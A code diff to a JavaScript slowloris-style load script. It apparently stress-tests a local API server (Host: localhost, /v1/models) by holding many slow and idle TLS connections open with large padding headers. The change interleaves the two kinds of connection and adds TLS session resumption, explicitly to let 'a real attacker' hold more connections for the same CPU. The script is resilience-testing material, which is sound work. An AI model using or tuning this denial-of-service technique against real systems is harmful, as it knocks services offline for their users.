@@ -52,9 +52,15 @@ function slowloris() {
   });
   const open = { slow: new Set(), idle: new Set() };
   let connecting = 0;
-  const wanted = [];
-  for (let i = 0; i < options.slow; i++) wanted.push({ kind: 'slow', i });
-  for (let i = 0; i < options.idle; i++) wanted.push({ kind: 'idle', i: options.slow + i });
+  // Slow and idle connections interleaved, so both kinds ramp up together.
+  const total = options.slow + options.idle;
+  const wanted = Array.from({ length: total }, (_, i) => ({
+    kind: Math.floor(((i + 1) * options.idle) / total) > Math.floor((i * options.idle) / total) ? 'idle' : 'slow',
+    i,
+  }));
+  // TLS session resumption, as a real attacker would use: an abbreviated handshake costs both
+  // sides less than a full one, so more connections can be held with the same CPU.
+  const sessions = new Map();
   const head = `GET /v1/models HTTP/1.1\r\nHost: localhost\r\nUser-Agent: slowloris\r\n`;
   const filler = 'X-Padding: ' + 'a'.repeat(8000) + '\r\n';
   const script = head + filler;
@@ -64,12 +70,15 @@ function slowloris() {
     connecting++;
     count('connect_attempts');
     const target = targets[slot.i % targets.length];
+    const targetKey = `${target.host}:${target.port}`;
     const socket = tlsConnect({
       host: target.host,
       port: target.port,
       localAddress: address(slot.i),
       rejectUnauthorized: false,
+      session: sessions.get(targetKey),
     });
+    socket.once('session', (session) => sessions.set(targetKey, session));
     let secured = false;
     let timer;
     socket.setNoDelay(true);
@@ -77,7 +86,7 @@ function slowloris() {
     socket.once('secureConnect', () => {
       secured = true;
       connecting--;
-      count('handshakes');
+      count(socket.isSessionReused() ? 'handshakes_resumed' : 'handshakes_full');
       open[slot.kind].add(socket);
       socket.resume();
       if (slot.kind === 'slow') {
@@ -134,6 +143,7 @@ function pools(origin, n, perPool, timeoutMs) {
 
 async function send(pool, { path, method = 'POST', headers, body }, label) {
   const started = performance.now();
+  count(`${label}_sent`);
   try {
     const response = await pool.request({ path, method, headers, body });
     await response.body.dump();
@@ -142,7 +152,7 @@ async function send(pool, { path, method = 'POST', headers, body }, label) {
     countStatus(`${label} ${error.code ?? error.name}`);
   }
   count(`${label}_ms`, performance.now() - started);
-  count(`${label}_requests`);
+  count(`${label}_answered`);
 }
 
 function loops(n, next) {
